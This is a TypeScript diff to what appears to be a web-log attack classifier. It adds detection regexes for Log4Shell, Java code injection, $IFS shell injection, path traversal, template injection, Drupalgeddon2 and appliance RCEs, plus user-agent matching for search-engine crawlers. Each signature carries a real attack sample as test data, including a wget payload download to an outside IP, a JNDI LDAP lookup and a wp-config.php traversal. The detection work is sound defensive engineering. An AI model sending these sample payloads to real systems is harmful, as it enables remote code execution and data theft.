@@ -214,7 +214,11 @@ export interface Signature {
 }
 
 export const EXPLOIT_SIGNATURES: readonly Signature[] = [
-  { name: 'JNDI lookup (Log4Shell)', re: /\$\{\s*(jndi|\$\{|::-|lower:|upper:|env:|sys:|date:|base64:)/, sample: '${jndi:ldap://203.0.113.9:1389/a}' },
+  {
+    name: 'JNDI lookup (Log4Shell)',
+    re: /\$\{\s*(jndi|\$\{|::-|lower:|upper:|env:|sys:|date:|base64:)|\$\{[\w:-]{0,20}\$\{|\$\{[^}]{0,30}:-[^}]{0,10}\}/,
+    sample: '${jndi:ldap://203.0.113.9:1389/a}',
+  },
   {
     name: 'Text4Shell lookup',
     re: /\$\{(script|dns|url):/,
@@ -253,10 +257,42 @@ export const EXPLOIT_SIGNATURES: readonly Signature[] = [
     sample: '/index.php?s=/index/think/app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=x',
   },
   { name: 'PHPUnit RCE (CVE-2017-9841)', re: /eval-stdin\.php/, sample: '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php' },
+  {
+    name: 'Java code injection',
+    re: /java\.lang\.(runtime|processbuilder)|getruntime\(\)\.exec|\.getclass\(\)\.forname/,
+    sample: '/geoserver/wfs?valueReference=exec(java.lang.Runtime.getRuntime(),%27id%27)',
+  },
+  { name: 'shell field separator ($IFS)', re: /\$\{ifs\}|\$ifs\b/, sample: '/language/x${IFS}&&cd${IFS}/tmp;wget${IFS}http://192.0.2.68/m' },
+  {
+    name: 'dot-dot segment in a request path (browsers resolve them)',
+    re: /^[^?]*\/\.\.(\/|;|\\|$)/,
+    sample: '/api/v1/totp/user-backup-code/../../license/keys-status/x',
+    targetOnly: true,
+  },
+  {
+    name: 'traversal several levels up, or to a configuration file',
+    re: /(\.\.[/\\]){2,}|\.\.[/\\][^&]*(wp-config\.php|configuration\.php|\.env\b|web\.config|\.htpasswd|settings\.php)/,
+    sample: '/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php',
+  },
+  {
+    name: 'template injection probe',
+    re: /\{\{\s*\d+\s*\*\s*'?\d+'?\s*\}\}|\$\{\s*\d+\s*\*\s*\d+\s*\}|<%=?\s*\d+\s*\*\s*\d+\s*%>|#\{\s*\d+\s*\*\s*\d+\s*\}/,
+    sample: "{{7*'7'}}${7*7}<%= 7*7 %>",
+  },
+  {
+    name: 'Drupal render-array injection (Drupalgeddon2)',
+    re: /#(post_render|pre_render|lazy_builder|access_callback)\b|element_parents=account\/mail\/#value/,
+    sample: '/?q=user/password&name[%23post_render][]=passthru&name[%23type]=markup&name[%23markup]=id',
+  },
+  {
+    name: 'appliance and framework RCEs (F5, Exchange ProxyShell, Laravel Ignition, Joomla config leak)',
+    re: /\/mgmt\/tm\/util\/bash|\/autodiscover\/autodiscover\.json\?@|\/_ignition\/execute-solution|\/api\/index\.php\/v1\/config\/application/,
+    sample: '/mgmt/tm/util/bash',
+  },
   { name: 'Spring4Shell', re: /class\.module\.classloader/, sample: '/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x' },
   {
     name: 'router exploit (GPON, Boa, Netgear, D-Link)',
-    re: /\/gponform\/diag_form|\/boaform\/admin\/formlogin|\/setup\.cgi\?.*cmd=|\/cgi-bin\/(luci|admin\.cgi)[^ ]*(;|\$\()|\/hnap1\/.*(;|`)/,
+    re: /\/gponform\/diag_form|\/boaform\/admin\/formlogin|\/ctrlt\/deviceupgrade_1|\/setup\.cgi\?.*cmd=|\/cgi-bin\/(luci|admin\.cgi)[^ ]*(;|\$\()|\/hnap1\/.*(;|`)/,
     sample: '/GponForm/diag_Form?images/',
   },
   {
@@ -341,6 +377,24 @@ export const AUTH_TARGETS: ReadonlyArray<{ readonly pattern: string; readonly ki
   { pattern: '/user/login', kind: 'form' },
 ];
 
+/**
+ * Search engines' crawlers, by the name their user agent gives: the address ranges they publish
+ * (data/crawlers.json, by the same names) tell a verified crawler from a fake one.
+ */
+export const SEARCH_CRAWLERS: ReadonlyArray<{ readonly name: string; readonly re: RegExp }> = [
+  { name: 'Googlebot', re: /googlebot|google-inspectiontool|googleother|storebot-google|adsbot-google|mediapartners-google/ },
+  { name: 'Bingbot', re: /bingbot|adidxbot|bingpreview|msnbot/ },
+  { name: 'Applebot', re: /applebot/ },
+  { name: 'YandexBot', re: /yandex(bot|images|mobilebot)/ },
+  { name: 'DuckDuckBot', re: /duckduckbot/ },
+];
+
+/** The index in SEARCH_CRAWLERS of the crawler a user agent names, or -1. */
+export function crawlerNamed(agent: string): number {
+  const lower = agent.toLowerCase();
+  return SEARCH_CRAWLERS.findIndex((c) => c.re.test(lower));
+}
+
 export const PATH_STATIC = 1;
 export const PATH_SENSITIVE = 2;
 export const PATH_PAYLOAD = 4;
@@ -352,6 +406,14 @@ export const PATH_AUTH_TOKEN = 32;
 /** An unmistakable attack (EXPLOIT_SIGNATURES) or a scanner's own mark (SCANNER_MARKS: also PATH_SCANNER). */
 export const PATH_EXPLOIT = 64;
 export const PATH_SCANNER = 128;
+/** A user agent naming a search engine's crawler (SEARCH_CRAWLERS); its index follows in the bits above. */
+export const AGENT_CRAWLER = 256;
+const CRAWLER_SHIFT = 9;
+
+/** The index in SEARCH_CRAWLERS of the crawler an agent's classes name (AGENT_CRAWLER set). */
+export function crawlerIndexOf(flags: number): number {
+  return flags >>> CRAWLER_SHIFT;
+}
 
 const staticSet = new Set(STATIC_EXTENSIONS);
 /** Extensions of server-side scripts and executables. */
@@ -471,16 +533,10 @@ export function classifyHeader(text: string): number {
   return intentFlags(decoded(unescapeLogged(text)), 'header');
 }
 
-/**
- * Whether bytes [start, end) of a header may hold an exploit signature: "$", "{", "<", "'", "%" or "\"
- * (escapes). Referers and forwarded-for values are not cached by hash: this spares nearly all of them a string.
- */
-export function mayHoldHeaderExploit(buf: Uint8Array, start: number, end: number): boolean {
-  for (let i = start; i < end; i++) {
-    const c = buf[i]!;
-    if (c === 0x24 || c === 0x7b || c === 0x3c || c === 0x27 || c === 0x25 || c === 0x5c) return true;
-  }
-  return false;
+/** The classes of a user agent: classifyHeader's, and AGENT_CRAWLER when it names a search crawler. */
+export function classifyAgent(text: string): number {
+  const named = crawlerNamed(unescapeLogged(text));
+  return classifyHeader(text) | (named < 0 ? 0 : AGENT_CRAWLER | (named << CRAWLER_SHIFT));
 }
 
 /**
